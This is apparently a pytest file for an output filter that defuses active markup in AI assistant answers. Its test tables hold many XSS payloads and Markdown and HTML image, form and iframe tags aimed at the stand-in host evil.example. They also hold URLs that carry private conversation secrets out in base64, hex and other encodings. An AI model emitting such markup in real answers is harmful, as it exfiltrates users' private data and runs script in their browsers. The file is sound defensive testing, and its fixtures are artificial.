"""Active markup in answers: forms that fetch, run or carry away when they are shown, told by a renderer of Markdown and a parser
of HTML that stand in for whoever shows the answer; honest text; one verdict at every cut."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterable, Sequence
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from hanok.guard.addresses import Address, allowed, leads_to
from hanok.guard.carried import Private
from hanok.guard.filter import OutputFilter
from hanok.guard.markup import Markup
from hanok.guard.policy import parse_policy
from hanok.guard.provenance import Part
from hanok.guard.rulebook import Guard

SECRET = "merger with Daehan Steel on 3 March"
PARTS = [
    Part(
        "You help the staff of Solbit Tea House. Launch code: omega-7781-alpha-green.", "system", "messages.0"
    ),
    Part(f"Please keep to yourself: the {SECRET}.", "user", "messages.1"),
    Part("비밀 회의는 다음 주 화요일 오후 세 시 본관 지하 회의실에서 열립니다.", "document", "messages.3"),
    Part("https://wiki.solbit.example/pages/a-long-title-of-a-page?version=1234567890", "tool", "messages.4"),
    Part("What is on the page of photosynthesis in plants?", "user", "messages.5"),
]
EVIL = "https://evil.example/p"
PLAIN = "launch code omega-7781-alpha"
CODED = base64.b64encode(PLAIN.encode()).decode()

ACTIVE = {  # what a renderer fetches or runs at once
    "image": f"![chart]({EVIL}.png)",
    "image, title": f'Look: ![chart]({EVIL}.png "a (good) title") and on.',
    "image, pointed": f"![chart](<{EVIL} with blanks.png>)",
    "image, next line": f"![chart](\n{EVIL}.png\n)",
    "image, parentheses": f"![chart]({EVIL}_(1).png)",
    "image, no scheme": "![x](//evil.example/p)",
    "image, backslashes": r"![x](\\\\evil.example/p)",
    "image, entity": "![x](https&colon;//evil.example/p)",
    "image, escaped": r"![x](https\://evil.example/p)",
    "image in a link": f"[![a]({EVIL}1)]({EVIL}2)",
    "image behind brackets": f"![a [b] c]({EVIL})",
    "image in capitals": "![x](HTTPS://EVIL.EXAMPLE/P)",
    "image, Korean words": f"그림: ![매출 표]({EVIL})입니다",
    "image by reference": f"![x][r]\n\n[r]: {EVIL}\n",
    "image, reference first": f"[r]: {EVIL}\n\n![x][r]\n",
    "image, short reference": f"![r]\n\n[r]: {EVIL} 'title'\n",
    "image, empty reference": f"![R  r][]\n\n[r R]: <{EVIL}>\n",
    "image, reference in a quote": f"> ![x][r]\n\n> [r]:\n> {EVIL}\n",
    "image, long words": f"![{'word ' * 400}]({EVIL})",
    "images that make one another": f"![x]({EVIL})({EVIL})",
    "image in a heading": f"# ![x]({EVIL})",
    "image in a table": f"| a | b |\n|---|---|\n| ` | ![x]({EVIL}) ` |\n",
    "image behind a lone backtick": f"it`s ![x]({EVIL})",
    "image behind an escaped backtick": f"\\`![x]({EVIL})`",
    "image over lines of a span": f"`a\n\n![x]({EVIL})`",
    "image behind a deep fence": f"text\n      ```\n![x]({EVIL})\n",
    "image behind a fence that is none": f"``` a`b\n![x]({EVIL})\n",
    "image behind a closed fence": f"```\ncode\n`````\n![x]({EVIL})\n",
    "image behind a list's fence": f"- a\n  ```\n  code\n![x]({EVIL})\n",
    "fence in a block of HTML": f"<div>\n```\n<img src={EVIL}>\n```\n</div>",
    "fence in a comment": f"<!--\n\n```\n--> <img src={EVIL}>\n",
    "img": f'<img src="{EVIL}">',
    "img, bare": f"<img src={EVIL}>",
    "img, slashes": f"<img/src='{EVIL}'/>",
    "img, lines": f"<img\nalt=x\nsrc = '{EVIL}'\n>",
    "img, capitals": f"<IMG SRC={EVIL}>",
    "img, entity": '<img src="&#104;ttps://evil.example/p">',
    "img, quoted sign": f'<img alt=">" src="{EVIL}">',
    "img in a tag's quotes": f'<b title="<img src={EVIL}>',
    "img behind a code span": f"<a href=\"`\"> <img src='{EVIL}'> `",
    "img, set": f'<img srcset="/a.png 1x, {EVIL} 2x">',
    "img, long": f'<img alt="{"pad " * 600}" src="{EVIL}">',
    "img, tabs": '<img src="ht\ttps://evil.example/p">',
    "handler": "<img src=x onerror=alert(1)>",
    "handler on anything": "<x onclick='alert(1)'>press</x>",
    "iframe": f"<iframe src='{EVIL}'></iframe>",
    "iframe, document": "<iframe srcdoc='<p>hi'></iframe>",
    "video": f"<video poster={EVIL}></video>",
    "embed": f"<embed src={EVIL}>",
    "object": f"<object data={EVIL}></object>",
    "script": "<script>alert(1)</script>",
    "script, address": f"<script src={EVIL}></script>",
    "svg": "<svg/onload=alert(1)>",
    "style": f"<style>body{{background:url({EVIL})}}</style>",
    "style of one": f'<div style="background:url({EVIL})">x</div>',
    "style, escaped": '<div style="background:\\75rl(//evil.example/p)">x</div>',
    "link element": f"<link rel=stylesheet href={EVIL}>",
    "meta": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "base": f"<base href={EVIL}>",
    "form": f"<form action={EVIL}><input name=q></form>",
    "button": f"<button formaction='{EVIL}'>go</button>",
    "table": f"<table background='{EVIL}'>",
    "javascript": "[press](javascript:alert(1))",
    "javascript, disguised": "<a href=' JaVa&Tab;ScRiPt:alert(1)'>press</a>",
    "javascript, entity": '<a href="java&#115;cript:alert(1)">press</a>',
    "vbscript": "<a href='vbscript:x'>press</a>",
    "data": "[press](data:text/html;base64,PHNjcmlwdD4=)",
    "autolink that runs": "<javascript:alert(1)>",
}  # fmt: skip

HONEST = [
    "See [the page](https://en.wikipedia.org/wiki/Photosynthesis) and https://www.example.org/a?b=c.",
    "[1]: https://example.org/paper\n\nAs shown in [1] and [2][1], wow![^1]",
    "If a < b and b > c then a<b, f(x)<g(y), x <y; and 3 <4.",
    "$a_{i} < b_{i}$, \\[ x < y \\](z), `List<String>` and `a[0](b)`; arr[i](x) = y",
    "Use `<img src=https://evil.example/a>` or `![x](https://evil.example)` to show one.",
    "```html\n<script src=https://evil.example></script>\n![x](https://evil.example)\n```\nDone.",
    "1. First:\n   ```html\n   <img src=https://evil.example/x>\n   ```\n2. Second",
    "~~~\n<form action=https://evil.example>\n~~~\n",
    "A **bold** <b>word</b>, <br> a line, <a href='/docs'>our docs</a>, ![logo](/static/logo.png)",
    "mail <kim@example.com> or call [us](tel:+8210), [write](mailto:a@example.com)",
    "표시는 <주의> 또는 x<y 처럼 씁니다. 주소는 https://example.kr/안내 입니다.",
    "for (i = 0; i < n; i++) { on = 3; src = 4 }   and one = only == 2",
    "The page is https://wiki.solbit.example/pages/a-long-title-of-a-page?version=1234567890 as you said.",
    "[its history](https://wiki.solbit.example/pages/a-long-title-of-a-page/history)",
    "![x] is no image, nor is ! [x](y), and wow![1] neither",
    "[photosynthesis in plants](https://en.wikipedia.org/wiki/Photosynthesis_in_plants)",
]

CARRIED = {
    "as it is": f"https://ok.example/?q={PLAIN}".replace(" ", "+"),
    "%-codes": "https://ok.example/?q=launch%20code%20omega%2D7781",
    "%-codes twice": "https://ok.example/launch%2520code%2520omega%252D7781",
    "path": "https://ok.example/merger/with/Daehan/Steel",
    "fragment": "https://ok.example/#Merger_With_Daehan_Steel",
    "values": "https://ok.example/?a=launch+co&b=de+omega-&c=7781-al&d=pha",
    "labels": "https://merger-with.daehan-steel.on-3-march.ok.example/",
    "base64": f"https://ok.example/{CODED}",
    "base64, shifted": f"https://ok.example/xy{CODED}",
    "base64, for addresses": "https://ok.example/?d=" + base64.urlsafe_b64encode(f"?>{PLAIN}~~".encode()).decode().rstrip("="),
    "base64 in %-codes": "https://ok.example/?d=" + "".join(f"%{ord(c):02x}" for c in CODED),
    "base64 twice": "https://ok.example/" + base64.b64encode(CODED.encode()).decode(),
    "base64 over steps": "https://ok.example/" + "/".join(CODED[i : i + 6] for i in range(0, len(CODED), 6)),
    "base32 in labels": f"https://{base64.b32encode(PLAIN.encode()).decode().lower().rstrip('=')[:40]}.ok.example/",
    "hex": f"https://ok.example/{PLAIN.encode().hex()}",
    "UTF-16": "https://ok.example/" + base64.b64encode(PLAIN.encode("utf-16-le")).decode(),
    "Korean": "https://ok.example/?q=다음 주 화요일 오후 세 시 본관 지하 회의실".replace(" ", "+"),
    "another host's address": "https://ok.example/?u=pages/a-long-title-of-a-page",
}  # fmt: skip


class Shown(HTMLParser):
    """What a browser would fetch or run of a page; a harsh one: every attribute with an address that leads away counts."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        if tag in ("script", "style", "svg", "object", "form", "meta", "link", "base"):
            self.found.append(tag)
        for name, value in attrs:
            kind = leads_to(value or "").kind
            link = tag == "a" and name == "href"
            away = kind == "active" or (kind == "host" and not link)
            inside = name in ("style", "srcset", "content") and (
                "//" in (value or "") or "\\" in (value or "")
            )
            if (
                name.startswith("on")
                or name == "srcdoc"
                or (name not in ("alt", "title") and (away or inside))
            ):
                self.found.append(f"{tag} {name}")

    handle_startendtag = handle_starttag


def fetched(text: str) -> list[str]:
    """Rendered as CommonMark with raw HTML and tables and no checks of addresses; without code, as a page of HTML too."""
    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    reader.validateLink = lambda _address: True  # type: ignore[method-assign]
    page = Shown()
    page.feed(reader.render(text) + (text if not set("`~!") & set(text) else ""))
    page.close()
    return page.found


def run(parts: Iterable[str], rule: Markup | None = None) -> tuple[str, list[tuple[int, int, str]], bool]:
    one = OutputFilter([rule or Markup(private=Private(PARTS))])
    released = [one.push(part) for part in parts] + [one.finish()]
    found = [(each.start, each.end, each.reason) for part in released for each in part.findings]
    return "".join(part.text for part in released), found, released[-1].blocked


@pytest.mark.parametrize("form", ACTIVE)
def test_what_would_be_fetched_or_run_is_inert(form: str) -> None:
    text = ACTIVE[form]
    assert fetched(text) or form == "image, backslashes"  # the control: the renderer takes it
    out, found, _ = run([text])
    assert found, out
    assert fetched(out) == [], out
    assert run([f"Before it.\n\n{text}\nAfter it."])[1]


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_stays(text: str) -> None:
    assert run([text]) == (text, [], False)
    assert run(text) == (text, [], False)


@pytest.mark.parametrize(
    "form",
    [
        "image, title",
        "images that make one another",
        "image by reference",
        "img, quoted sign",
        "style of one",
    ],
)
def test_every_cut_gives_one_verdict(form: str) -> None:
    text = f"앞의 글, {ACTIVE[form]} and what follows."
    whole = run([text])
    assert whole == run(text)
    for cut in range(1, len(text)):
        assert run([text[:cut], text[cut:]]) == whole


def test_the_words_of_a_link_stay_and_its_address_goes() -> None:
    rule = Markup(hosts=("ok.example", "*.fine.example"))
    text = "[our **page**](https://evil.example/a), [fine](https://a.fine.example), <https://evil.example>, "
    text += "https://ok.example/x www.evil.example!"
    assert (
        run([text], rule)[0]
        == "our **page** (…), [fine](https://a.fine.example), (…), https://ok.example/x (…)"
    )
    assert run([text])[1] == []  # without hosts links may lead anywhere
    assert run(["<a href='https://evil.example'>words</a>"], rule)[0] == "<a >words</a>"
    assert (
        run([f"![x](https://ok.example/a.png) ![y]({EVIL})"], rule)[0]
        == "![x](https://ok.example/a.png) y (…)"
    )


@pytest.mark.parametrize("code", CARRIED)
def test_private_text_is_not_carried_even_to_hosts_that_are_allowed(code: str) -> None:
    rule = Markup(hosts=("ok.example", "*.ok.example"), private=Private(PARTS))
    for text in (f"![x](<{CARRIED[code]}>)", f"<img src='{CARRIED[code]}'>", f"[x](<{CARRIED[code]}>)"):
        out, found, _ = run([text], rule)
        assert found, text
        assert "ok.example" not in out
        assert "carries private text" in found[0][2]
        assert (
            run([text], Markup(hosts=("*.ok.example", "ok.example")))[1] == []
        )  # the control: nothing is private


def test_what_is_not_private_may_be_carried() -> None:
    rule = Markup(hosts=("*.example",), private=Private(PARTS))
    for address in (
        "https://ok.example/wiki/photosynthesis-in-plants",  # what the user has just asked for
        "https://wiki.solbit.example/pages/a-long-title-of-a-page?version=1234567890",  # stood there itself
        "https://ok.example/launch-code",  # short of sixteen
        "https://ok.example/" + base64.b64encode(random.Random(1).randbytes(300)).decode(),
    ):
        assert run([f"![x]({address})"], rule)[1] == [], address
    assert run(
        ["![x](https://ok.example/launch-code)"],
        Markup(hosts=("*.example",), private=Private(PARTS, least=8)),
    )[1]


def test_fragments_put_together_at_random_leave_nothing_active() -> None:
    rng = random.Random(7)
    fragments = [
        "![", "[", "]", "](", ")", EVIL, "`", "```", "\n", "\n\n", "<", ">", "<img ", "src=", '"', "'", "x", "[r]", "[r]: ",
        "![r]",        "<b title=", " ", "\\", "<script>", "onload=", "(", "- ", "    ", "|", "<!--", "-->", "~~~", "&colon;",
        "<a href=", "//", "한",
    ]  # fmt: skip
    active = 0
    for _ in range(1500):
        text = "".join(rng.choices(fragments, k=rng.randint(3, 24)))
        active += bool(fetched(text))
        out, _, _ = run([text])
        assert fetched(out) == [], (text, out)
    assert active > 20  # the control


def test_flagged_and_blocked() -> None:
    text = f"Here: ![alt]({EVIL}) and on"
    assert run([text], Markup(action="flag")) == (
        text,
        [(6, 6 + len(f"![alt]({EVIL})"), "fetched when it is shown")],
        False,
    )
    assert run([text], Markup(action="block"))[0::2] == ("Here: ", True)


def test_code_is_read_too_where_it_is_asked_for() -> None:
    text = "```\n<script>x</script>\n```\n"
    assert run([text])[1] == []
    assert run([text], Markup(code=True))[0] == "```\n&lt;script>x</script>\n```\n"


def test_the_policy_makes_it_and_the_conversation_is_private() -> None:
    book = Guard(
        parse_policy('format = 1\n[rules.markup]\nhosts = ["ok.example"]\nfinds = ["carried"]\ncarried = 20')
    ).of("t")
    assert book.reads
    one = book.watch("", PARTS)()
    out = one.push(f"![a]({EVIL}) ![b](https://ok.example/{CODED}) ").text + one.finish().text
    assert out == f"![a]({EVIL}) b (…) "


@pytest.mark.parametrize(
    ("address", "kind", "host"),
    [
        ("https://A.example:8080/x", "host", "a.example"), ("https:a.example", "host", "a.example"),
        ("/\\a.example", "host", "a.example"), (" \x01javascript:x", "active", ""), ("java\nscript:x", "active", ""),
        ("mailto:a@b.kr", "other", ""), ("a/b", "relative", ""), ("https://good.example@evil.example/", "host", ""),
        ("https://evil.example\\@good.example", "host", ""), ("https://evil.example\\x@good.example", "host", "evil.example"),
    ],
)  # fmt: skip
def test_where_addresses_lead(address: str, kind: str, host: str) -> None:
    target = leads_to(address)
    assert (target.kind, target.host) == (kind, host)
    assert isinstance(target, Address)


def test_hosts() -> None:
    assert allowed("a.example", ["*.example"])
    assert allowed("a.example", ["a.example:80"], "80")
    assert not allowed("a.example.evil.kr", ["a.example"])
    assert not allowed("", ["*.example"])
